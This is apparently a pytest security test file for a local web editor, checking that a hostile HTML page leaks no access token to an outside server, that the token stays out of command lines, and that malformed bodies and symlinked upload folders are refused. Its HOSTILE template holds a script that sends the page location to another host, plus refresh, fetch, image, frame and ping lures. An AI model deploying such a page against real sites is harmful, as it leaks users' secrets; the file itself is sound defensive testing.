"""What would let others in: the secret told by links, by what the program says or by its command line; files that lead elsewhere."""

import re
import subprocess
import sys
import threading
import urllib.error
import urllib.request
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.browser import opened

if TYPE_CHECKING:
    from tests.web.conftest import Page

HOSTILE = """<!DOCTYPE html><meta charset="utf-8"><meta name="referrer" content="unsafe-url">
<meta http-equiv="refresh" content="0;url={elsewhere}/refresh"><base href="{elsewhere}/">
<script>location = "{elsewhere}/script?" + location; fetch("{elsewhere}/fetch")</script>
<img src="{elsewhere}/picture"><link rel="stylesheet" href="{elsewhere}/style"><iframe src="{elsewhere}/frame"></iframe>
<style>@import "{elsewhere}/import"; body {{ background: url({elsewhere}/background) }}</style>
<form action="{elsewhere}/form"><button id="send">送</button></form>
<p>部门决算</p><a id="out" href="{elsewhere}/link" referrerpolicy="unsafe-url" ping="{elsewhere}/ping">看</a>"""


class Elsewhere(ThreadingHTTPServer):
    """Another site, and all that it is asked, with what it is told of where that came from."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Asked)
        self.asked: list[str] = []


class Asked(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        assert isinstance(self.server, Elsewhere)
        self.server.asked.append(f"{self.path} {self.headers}")
        self.send_response(200)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *_: object) -> None:
        """Says nothing."""


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    site = Elsewhere()
    threading.Thread(target=site.serve_forever, args=(0.05,), daemon=True).start()
    yield site
    site.shutdown()
    site.server_close()


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    folder = tmp_path / "决算"
    for name in ("data", "收到"):
        (folder / name).mkdir(parents=True)
    return folder


@pytest.fixture
def running(folder: Path) -> Iterator[tuple[subprocess.Popen[str], str]]:
    """The command on the folder, and the address that it told."""
    words = [sys.executable, "-X", "utf8", "-m", "generator.cli", "open", "--no-browser", str(folder)]
    process = subprocess.Popen(words, stderr=subprocess.PIPE, stdout=subprocess.PIPE, encoding="utf-8")
    try:
        found = re.search(r"http://\S+/", process.stderr.readline())  # type: ignore[union-attr]
        assert found
        yield process, found.group()
    finally:
        process.kill()
        process.communicate()


def test_a_hostile_page_asks_for_nothing_and_its_links_do_not_say_where_they_were(
    folder: Path, running: tuple[object, str], elsewhere: Elsewhere
) -> None:
    outside = f"http://127.0.0.1:{elsewhere.server_port}"
    (folder / "收到" / "坏.html").write_text(HOSTILE.format(elsewhere=outside), "utf-8")
    with opened() as browser:
        tab = browser.new_page()
        tab.goto(f"{running[1]}file/收到/坏.html")
        assert "部门决算" in tab.text_content("body")
        tab.wait_for_timeout(500)
        tab.click("#send")
        tab.wait_for_timeout(200)
        assert elsewhere.asked == []
        tab.click("#out")
        tab.wait_for_url(f"{outside}/link")
    token = running[1].rstrip("/").rpartition("/")[2]
    [link] = [asked for asked in elsewhere.asked if not asked.startswith("/favicon.ico")]
    assert link.startswith("/link") and "Referer" not in link and not any(token in asked for asked in elsewhere.asked)


@pytest.mark.skipif(sys.platform != "linux", reason="命令行在 /proc 里看")
def test_the_secret_is_told_once_and_is_in_no_command_line(running: tuple[subprocess.Popen[str], str]) -> None:
    process, address = running
    token = address.rstrip("/").rpartition("/")[2]
    asked = [
        urllib.request.Request(address + "api/state/data/none.yaml"),
        urllib.request.Request(address + "api/edit/data/none.yaml", b"{", {"X-Juesuan": "1"}),
        urllib.request.Request(address + "api/edit/data/none.yaml", b"{}", {"X-Juesuan": "1", "Content-Length": "many"}),
        urllib.request.Request(address + "write/data/%00", b"{}"),
    ]
    for each in asked:
        with pytest.raises((urllib.error.URLError, ConnectionError)):
            urllib.request.urlopen(each, timeout=10)
    assert token.encode() not in Path(f"/proc/{process.pid}/cmdline").read_bytes()
    process.terminate()
    said, told = process.communicate(timeout=10)
    assert token not in said + told


def test_a_body_of_unknown_length_is_bounded_too(page: "Page", monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("generator.web.requests.LARGEST", 1000)
    address, marked = f"/{page.site.token}/api/edit/{page.file}", {"X-Juesuan": "1"}
    for content in (b"[" * 2000, iter([b"[" * 600, b"[" * 600])):
        assert page.client.post(address, content=content, headers=marked).status_code == 413
    for length in ("many", "-1", "9" * 5000):
        answer = page.client.post(address, content=b"{}", headers={**marked, "Content-Length": length})
        assert 400 <= answer.status_code < 500, length


def test_an_inbox_that_leads_elsewhere_takes_nothing(page: "Page", tmp_path: Path) -> None:
    inbox = page.folder / "收到"
    inbox.symlink_to(tmp_path, target_is_directory=True)
    try:
        answer = page.client.post(
            f"/{page.site.token}/api/upload", params={"name": "a.txt"}, content="部门决算".encode(), headers={"X-Juesuan": "1"}
        )
        assert 400 <= answer.status_code < 500 and not list(tmp_path.iterdir())
    finally:
        inbox.unlink()
